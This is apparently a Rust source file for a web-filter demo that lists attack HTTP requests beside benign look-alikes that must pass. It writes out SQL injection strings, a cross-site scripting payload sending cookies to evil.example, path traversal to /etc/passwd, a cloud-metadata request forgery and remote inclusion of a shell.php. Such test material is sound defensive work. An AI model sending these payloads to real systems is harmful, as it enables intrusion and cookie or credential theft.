//! What the demo sends: attacks of several kinds, each with the benign request that looks most like
//! it and must pass.

/// One request of the demo.
pub(crate) struct DemoRequest {
    /// What it is, for the table.
    pub(crate) what: &'static str,
    /// Whether it must be refused.
    pub(crate) is_attack: bool,
    /// Method and target.
    pub(crate) line: &'static str,
    /// Further headers, each ended by `\r\n` but the last.
    pub(crate) headers: &'static str,
    /// The body.
    pub(crate) body: &'static str,
}

const BROWSER: &str = "User-Agent: Mozilla/5.0 (X11; Linux x86_64) demo";
const FORM: &str = "User-Agent: Mozilla/5.0 (X11; Linux x86_64) demo\r\nContent-Type: application/x-www-form-urlencoded";
const JSON: &str =
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64) demo\r\nContent-Type: application/json";

const fn attack(
    what: &'static str,
    line: &'static str,
    headers: &'static str,
    body: &'static str,
) -> DemoRequest {
    DemoRequest {
        what,
        is_attack: true,
        line,
        headers,
        body,
    }
}

const fn benign(
    what: &'static str,
    line: &'static str,
    headers: &'static str,
    body: &'static str,
) -> DemoRequest {
    DemoRequest {
        what,
        is_attack: false,
        line,
        headers,
        body,
    }
}

/// In the order they are sent: each attack, then its benign twin.
pub(crate) const REQUESTS: &[DemoRequest] = &[
    attack(
        "SQL injection in a query argument",
        "GET /search?q=%27%20UNION%20SELECT%20password%20FROM%20users--%20",
        BROWSER,
        "",
    ),
    benign(
        "a name with an apostrophe",
        "GET /search?q=O%27Reilly%20lamp",
        BROWSER,
        "",
    ),
    attack(
        "SQL injection in a login form",
        "POST /login",
        FORM,
        "user=admin%27+OR+1%3D1--+&password=x",
    ),
    benign(
        "a login",
        "POST /login",
        FORM,
        "user=select.the.best&password=correct+horse",
    ),
    attack(
        "cross-site scripting in a query argument",
        "GET /search?q=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E",
        BROWSER,
        "",
    ),
    benign(
        "a search with angle brackets",
        "GET /search?q=desks%20%3C%20120%20cm",
        BROWSER,
        "",
    ),
    attack(
        "cross-site scripting in a comment",
        "POST /comments",
        FORM,
        "text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    ),
    benign(
        "a comment that quotes and shouts",
        "POST /comments",
        FORM,
        "text=I+%22love%22+it%3A+select+this+lamp+from+all+%26+drop+the+table+lamp%21",
    ),
    attack(
        "path traversal",
        "GET /download?file=../../../../etc/passwd",
        BROWSER,
        "",
    ),
    benign(
        "a path with dots",
        "GET /download?file=manual.v2..final.pdf",
        BROWSER,
        "",
    ),
    attack(
        "request forgery towards the cloud's metadata",
        "GET /download?file=http://169.254.169.254/latest/meta-data/iam/",
        BROWSER,
        "",
    ),
    benign(
        "a link",
        "GET /download?file=https://shop.example/latest/manual.pdf",
        BROWSER,
        "",
    ),
    attack(
        "remote file inclusion",
        "GET /download?file=http://198.51.100.7/shell.php",
        BROWSER,
        "",
    ),
    attack(
        "a scanner",
        "GET /",
        "User-Agent: sqlmap/1.8#stable (https://sqlmap.org)",
        "",
    ),
    benign("a browser", "GET /", BROWSER, ""),
    attack("a configuration file", "GET /.env.bak", BROWSER, ""),
    benign("a page that is not there", "GET /environment", BROWSER, ""),
    attack(
        "SQL injection in a JSON body",
        "POST /api/orders",
        JSON,
        r#"{"items":[{"id":"1' OR '1'='1' -- ","count":1}]}"#,
    ),
    benign(
        "an order",
        "POST /api/orders",
        JSON,
        r#"{"items":[{"id":"lamp-7","count":1}],"note":"Don't ring: the baby's asleep; 1 or 2 knocks"}"#,
    ),
];
